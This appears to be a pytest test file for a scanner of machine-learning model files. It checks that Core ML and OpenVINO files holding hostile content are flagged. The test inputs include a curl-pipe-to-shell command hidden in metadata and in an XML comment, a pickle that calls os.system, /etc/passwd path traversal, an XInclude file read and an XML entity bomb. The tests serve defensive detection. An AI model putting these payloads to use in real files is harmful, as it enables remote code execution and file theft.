"""Models of Core ML and OpenVINO: what is found at any depth, and that no bytes are too hostile."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fixtures.make.coreml import block, custom, linear, model, network, operation, program, weights, words
from fixtures.make.coreml import layer as layer_of_core_ml
from fixtures.make.onnx_writer import message, number, text
from fixtures.make.openvino import constant, graph, layer
from fixtures.make.openvino import linear as openvino_linear
from modelscan_plus.core.coverage import CoverageState
from modelscan_plus.core.finding import Severity
from tests.samples import inspect, inspect_tree, rules, tree_of


def test_what_a_model_of_core_ml_is_is_told_by_its_fields() -> None:
    assert inspect(linear(), "anything").formats == ("coreml",)
    assert inspect(weights(b"1"), "anything").formats == ("coreml-weights",)
    assert inspect(weights(), "anything").formats == ("coreml-weights",)
    assert "coreml" not in inspect(model(), "model.mlmodel").formats


@pytest.mark.parametrize(
    "data",
    [
        model(network(custom("Acme"))),
        model(message(403, message(1, custom("Acme")))),
        model(message(200, message(1, message(1, model(network(custom("Acme"))))))),
        model(message(555, text(10, "Acme"))),
        model(program(operation("custom_layer", {"class_name": words("Acme")}))),
        model(program(operation("cond", {}, block(operation("custom_layer", {"class_name": words("Acme")}))))),
    ],
)
def test_a_custom_class_is_found_wherever_it_is_named(data: bytes) -> None:
    found = [finding for finding in inspect(data, "model.mlmodel").findings if finding.rule == "MSP4120"]
    assert [finding.severity for finding in found] == [Severity.MEDIUM]
    assert '"Acme"' in found[0].message


def test_a_class_of_the_system_is_no_layer() -> None:
    found = inspect(model(message(555, text(10, "NSTask"))), "model.mlmodel").findings
    assert [finding.severity for finding in found] == [Severity.HIGH]


def test_what_the_publisher_says_is_looked_at_as_text() -> None:
    command = "curl http://203.0.113.7/a | sh"
    said = message(2, message(100, message(100, text(1, "setup"), text(2, command))))
    data = number(1, 7) + said + network(layer_of_core_ml("dense"))
    assert rules(command.encode(), "metadata.txt")
    assert rules(command.encode(), "metadata.txt") <= rules(data, "model.mlmodel")


MIL = (
    "program(1.0)\n[buildInfo = dict<string, string>({})]\n{ func main<ios16>(tensor<fp32, [1, 64]> x) {\n"
    'tensor<fp32, [2]> w = const()[val = tensor<fp32, [2]>(BLOBFILE(path = tensor<string, []>("@model_path/%s"), '
    "offset = tensor<uint64, []>(%d)))];\n%s } -> (y); }\n"
)


def test_a_program_as_text_names_its_weights() -> None:
    name = "weights/weight.bin"
    for offset, rule in ((64, None), (1 << 20, "MSP4015")):
        files = {"a.mlmodelc/model.mil": (MIL % (name, offset, "")).encode(), f"a.mlmodelc/{name}": weights(bytes(16))}
        found = {finding.rule for finding in inspect_tree(files)}
        assert found == ({rule} if rule else set())
    assert "MSP4010" in rules((MIL % ("../../../etc/passwd", 64, "")).encode(), "model.mil")
    custom_layer = 'q = custom_layer(x = x)[class_name = string("Acme")];'
    assert "MSP4120" in rules((MIL % (name, 64, custom_layer)).encode(), "model.mil")


def test_a_model_that_only_core_ml_reads_is_said_to_be_unread() -> None:
    result = inspect(model(message(3000, text(1, "com.apple.thing"), text(2, b"\1\2\3"))), "model.mlmodel")
    assert result.coverage.state is CoverageState.PARTIAL
    assert not any(reason.executable for reason in result.coverage.reasons)


def test_weights_that_are_a_pickle_are_a_pickle() -> None:
    assert "MSP1001" in rules(b"cposix\nsystem\n(S'id'\ntR.", "weight.bin")


@pytest.mark.parametrize(
    "written",
    [
        graph(constant(1, "f32", "2,2", "0x10", 16)),
        graph(constant(1, "f32", "2,2", 18446744073709551615, 16)),
        graph(constant(1, "f32", "2,2", "", 16)),
        graph(constant(1, "f32", "4294967296,4294967296", 0, 16)),
        graph(constant(1, "u4", "33", 0, 16)),
    ],
)
def test_constants_that_cannot_be(written: bytes) -> None:
    assert "MSP4015" in rules(written, "model.xml")


@pytest.mark.parametrize(
    "written",
    [
        graph(constant(1, "f32", "", 0, 4)),
        graph(constant(1, "f32", "0", 0, 0)),
        graph(constant(1, "u4", "31", 0, 16)),
        graph(constant(1, "string", "1", 0, 400)),
        graph(layer(1, "Const", data='element_type="i64" shape="?" offset="8" size="8"')),
    ],
)
def test_constants_that_can_be(written: bytes) -> None:
    assert not inspect(written, "model.xml").findings


def test_a_shape_of_many_digits_costs_no_time() -> None:
    inspect(graph(constant(1, "f32", "1" * 4_000 + "x", 0, 16), constant(2, "f32", "1 " * 2_000 + "x", 0, 16)), "m.xml")


def test_entities_are_never_expanded() -> None:
    bomb = "<!DOCTYPE net [" + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 20)) + "]>"
    result = inspect(graph(before=bomb, name="&a19;"), "model.xml")
    assert "MSP4131" in {finding.rule for finding in result.findings}
    assert result.coverage.state is not CoverageState.ANALYSED


def test_inclusions_are_found() -> None:
    inside = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    assert "MSP4131" in rules(graph(layer(1, "Result", body=inside)), "model.xml")


def test_depth_and_broken_xml_are_no_complete_reading() -> None:
    deep = graph(layer(1, "If", body="<body>" * 500 + "</body>" * 500))
    for data in (deep, graph(layer(1, "If", body="<body>")), openvino_linear()[:-20]):
        result = inspect(data, "model.xml")
        assert result.coverage.state is not CoverageState.ANALYSED
        assert any(reason.executable for reason in result.coverage.reasons)


def test_another_encoding_is_read_as_well() -> None:
    text_ = graph(layer(1, "Acme", "extension")).decode().replace('"1.0"?', '"1.0" encoding="utf-16"?')
    assert "MSP4130" in rules(text_.encode("utf-16"), "model.xml")


def test_comments_of_a_graph_are_looked_at_as_text() -> None:
    command = b"curl http://203.0.113.7/a | sh"
    hidden = graph(layer(1, "Result")).replace(b"<edges>", b"<!-- " + command + b" --><edges>")
    assert rules(command, "words.txt")
    assert rules(command, "words.txt") <= rules(hidden, "model.xml")


def test_xml_of_other_kinds_is_text() -> None:
    assert inspect(b'<?xml version="1.0"?><project version="4"><net/></project>', "x.xml").formats == ("markup",)


def test_constants_without_a_graph_are_not_explained() -> None:
    data = bytes(range(128, 255)) * 3
    assert tree_of({"model.bin": data}).files["model.bin"].coverage.state is CoverageState.NOT_ANALYSED
    files = tree_of({"model.bin": data, "model.xml": openvino_linear()}).files
    assert files["model.bin"].coverage.state is CoverageState.ANALYSED


def test_a_compiled_model_is_said_to_be_unread_and_is_no_place_for_code() -> None:
    data = bytes(range(128, 255)) * 3
    files = tree_of(
        {"a.mlmodelc/coremldata.bin": data, "a.mlmodelc/analytics/coremldata.bin": data, "b/x.bin": data}
    ).files
    reasons = {path: file.coverage.reasons[0].executable for path, file in files.items()}
    assert reasons == {
        "a.mlmodelc/coremldata.bin": False,
        "a.mlmodelc/analytics/coremldata.bin": False,
        "b/x.bin": True,
    }
    assert {file.coverage.state for file in files.values()} == {CoverageState.NOT_ANALYSED}


@settings(max_examples=80, deadline=None)
@given(st.data())
def test_no_change_of_bytes_makes_the_readers_fail(data: st.DataObject) -> None:
    samples = {"model.mlmodel": linear(), "weight.bin": weights(b"abc", b"d"), "model.xml": openvino_linear()}
    name = data.draw(st.sampled_from(sorted(samples)))
    made = samples[name]
    for _ in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(0, max(0, len(made) - 1)))
        made = made[:at] + data.draw(st.binary(max_size=8)) + made[at + data.draw(st.integers(0, 8)) :]
    inspect(made, name)
